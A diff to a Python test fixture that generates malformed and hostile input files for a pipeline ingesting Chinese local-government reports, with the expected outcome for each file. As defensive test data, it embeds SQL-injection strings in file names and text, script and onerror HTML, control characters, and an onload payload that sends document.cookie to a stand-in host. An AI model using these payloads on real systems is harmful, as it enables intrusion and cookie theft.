@@ -19,6 +19,11 @@ from pathlib import Path
 
 from tests.conftest import PROJECT_ROOT
 
+# Hostile text that must be stored verbatim (security: never executed, never spliced).
+HOSTILE_SQL = "'); DROP TABLE dim_report; --"
+HOSTILE_HTML = "<script>alert('x')</script><img src=x onerror=alert(1)>"
+HOSTILE_CONTROLS = "响铃\x07转义\x1b[31m删除\x7f反向\u202e结束"
+
 # Statistics sentences in several styles; {n…} are filled with seeded numbers. Written for this
 # suite (not taken from any report) so crash tests exercise breakdowns, flags and units.
 SENTENCES = (
@@ -97,6 +102,7 @@ class Input:
     name: str
     expect: str  # 'published' | 'held' (quarantined, duplicate, unchanged or rejected — with a reason) | 'any'
     why: str
+    marker: str | None = None  # text a published version's body_text must contain (decoded right)
 
 
 def _docx(xml_body: str, truncate: bool = False) -> bytes:
@@ -109,21 +115,30 @@ def _docx(xml_body: str, truncate: bool = False) -> bytes:
     return data[: len(data) // 2] if truncate else data
 
 
-def bad_inputs(folder: Path, big_bytes: int = 50_000_000, seed: int = 99) -> list[Input]:
-    """Write the malformed/awkward corpus (plus good inputs) into folder; returns what each must become."""
-    folder.mkdir(parents=True, exist_ok=True)
+def bad_inputs(folder: Path, big_bytes: int = 50_000_000, seed: int = 99, write: bool = True) -> list[Input]:
+    """Write the malformed/awkward corpus (plus good inputs) into folder; returns what each must become.
+
+    write=False only lists them (for test ids at collection time)."""
+    if write:
+        folder.mkdir(parents=True, exist_ok=True)
     rng = random.Random(seed)
     places = iter(rng.sample(counties(), k=40))
     out: list[Input] = []
 
-    def put(name: str, data: bytes | str, expect: str, why: str) -> Path:
+    marker: list[str] = []  # the county of the last good() text
+
+    def put(name: str, data: bytes | str, expect: str, why: str, checked: bool = True) -> Path:
         path = folder / name
-        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
-        out.append(Input(name, expect, why))
+        if write:
+            path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
+        out.append(Input(name, expect, why, marker[-1] if marker and checked else None))
+        marker.clear()
         return path
 
     def good(extra: str = "") -> str:
-        return report_text(next(places), 2022, rng, extra)
+        county = next(places)
+        marker.append(county[2])
+        return report_text(county, 2022, rng, extra)
 
     # good inputs, some with hostile but harmless text and hostile names
     put("good-plain.txt", good(), "published", "a normal report")
@@ -132,10 +147,14 @@ def bad_inputs(folder: Path, big_bytes: int = 50_000_000, seed: int = 99) -> lis
     put("good;semi;colon.txt", good(), "published", "semicolons in the name")
     put("x'; DROP TABLE fact_statistic;--.txt", good(), "published", "SQL in the name")
     put("报告 中文名称.txt", good(), "published", "Chinese characters in the name")
-    put("good-sql-text.txt", good("'); DROP TABLE dim_report; -- 共处理投诉15件。"), "published", "SQL in the text")
+    put("new\nline.txt", good(), "published", "a line break in the name")
+    put("UPPER-CASE.TXT", good(), "published", "an upper-case extension")
+    put("good-sql-text.txt", good(HOSTILE_SQL + " 共处理投诉15件。"), "published", "SQL in the text")
     put("good-gbk.txt", good().encode("gb18030"), "published", "GBK text")
     put("good-utf8-bom.txt", b"\xef\xbb\xbf" + good().encode("utf-8"), "published", "UTF-8 with BOM")
-    put("good-utf16-bom.txt", good().encode("utf-16"), "any", "UTF-16 with BOM")
+    put("good-html-in-text.txt", good(HOSTILE_HTML + "共受理举报12件。"), "published", "HTML and JavaScript in the text")
+    put("good-controls-in-text.txt", good(HOSTILE_CONTROLS + "共受理投诉7件。"), "published", "a few control characters in the text")
+    put("good-utf16-bom.txt", good().encode("utf-16"), "published", "UTF-16 with BOM")
     put("good-utf16le-nobom.txt", good().encode("utf-16-le"), "any", "UTF-16 without BOM")
     same = good()
     put("same-a.txt", same, "any", "the same report twice (first name)")
@@ -148,7 +167,7 @@ def bad_inputs(folder: Path, big_bytes: int = 50_000_000, seed: int = 99) -> lis
         + html_report.replace("\n\n", "</p><p>")
         + "</div></body></html>"
     ).encode("gb18030")
-    put("lying-gbk-as-utf8.html", lying, "any", "GBK bytes declared as UTF-8 in meta")
+    put("lying-gbk-as-utf8.html", lying, "published", "GBK bytes declared as UTF-8 in meta")
     scripted = (
         "<html><head><meta charset='utf-8'><script>alert(document.cookie)</script></head>"
         "<body onload=\"fetch('http://evil.invalid/'+document.cookie)\"><div id='zoom'><p>"
@@ -168,18 +187,21 @@ def bad_inputs(folder: Path, big_bytes: int = 50_000_000, seed: int = 99) -> lis
     put("fake.pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "held", "a PDF header and nothing else")
     put("truncated.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 500 >>\nstream\nBT /F1 12 Tf", "held", "a cut PDF")
     put("not-a-report.html", "<html><body><h1>网站地图</h1><ul><li><a href='/a'>首页</a></li></ul></body></html>", "held", "a page that is not a report")
-    put("no-statistics.txt", f"关于{next(places)[2]}2022年法治政府建设情况的报告\n\n一年来,我县坚持依法行政,各项工作稳步推进。", "any", "a report with no statistics")
+    prose = "。".join(["一年来,我县坚持以法治思维推进各项工作", "行政决策更加规范,执法行为更加文明", "普法宣传形式不断创新,群众法治意识明显增强", "下一步,我们将继续深化依法行政,建设人民满意的法治政府"] * 3)
+    put("no-statistics.txt", f"关于{next(places)[2]}2022年法治政府建设情况的报告\n\n{prose}。", "any", "a report with no statistics")
     put("long-line.txt", ("法治" * 3_000_000), "any", "a single 6-million-character line")
     put("deep.html", "<html><body>" + "<div>" * 20_000 + "关于法治政府建设情况的报告" + "</div>" * 20_000 + "</body></html>", "any", "20,000-deep nested HTML")
     put("big.txt", b"A" * big_bytes, "any", f"a {big_bytes / 1e6:.0f} MB file")
     put("unsupported.xyz", b"data", "held", "unsupported extension")
+    put("report.txt.exe", b"MZ\x90\x00" + bytes(200), "held", "an executable behind a double extension")
     put("old-word.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "held", "legacy .doc")
     put("noextension", good(), "held", "no extension")
-    put("utf16-html.html", ("<html><head><meta charset='utf-16'></head><body><p>" + good() + "</p></body></html>").encode("utf-16"), "any", "UTF-16 HTML")
+    put("utf16-html.html", ("<html><head><meta charset='utf-16'></head><body><p>" + good() + "</p></body></html>").encode("utf-16"), "published", "UTF-16 HTML")
     put("nul-only.txt", b"\x00" * 1000, "held", "NUL bytes only")
     put("error-page.pdf", b"<html><body>404 Not Found</body></html>", "held", "an error page behind a .pdf name")
     target = put("link-target.txt", good(), "published", "the target of a symlink")
-    (folder / "a-symlink.txt").symlink_to(target)
+    if write:
+        (folder / "a-symlink.txt").symlink_to(target)
     out.append(Input("a-symlink.txt", "held", "a symbolic link"))
     return out
 
